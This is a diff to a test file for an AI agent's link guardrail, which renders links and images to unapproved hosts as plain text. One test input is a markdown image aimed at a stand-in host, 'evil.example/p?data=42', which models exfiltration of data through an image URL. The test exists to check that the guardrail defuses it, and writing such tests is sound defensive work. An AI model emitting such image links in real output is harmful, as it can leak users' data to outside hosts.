@@ -1,12 +1,11 @@
 """LINKS: links and pictures go to hosts that the company names; any other address is text."""
 
-import pytest
-
 from agents.guardrails import links
 from agents.guardrails.base import About
 from agents.guardrails.gate import Gate
 from agents.guardrails.links import CODE, Links
 from agents.specs import RailSpec
+from tests.parts.phrases import try_each
 
 ABOUT = About(
     "en",
@@ -25,7 +24,7 @@ def spoken(text: str, spec: RailSpec = SPEC) -> str:
     return "".join(map(gate.feed, text)) + gate.finish()[0]
 
 
-@pytest.mark.parametrize(
+@try_each(
     ("said", "told"),
     [
         ("Look: ![map](https://evil.example/p?data=42)", "Look: map (evil.example/p?data=42)"),
@@ -67,7 +66,7 @@ def test_an_address_of_another_host_is_told_as_text(said: str, told: str) -> Non
     assert spoken(said) == told
 
 
-@pytest.mark.parametrize(
+@try_each(
     "said",
     [
         "Prices: https://hotel.example/p and [rooms](https://book.hotel.example/r?x=1).",
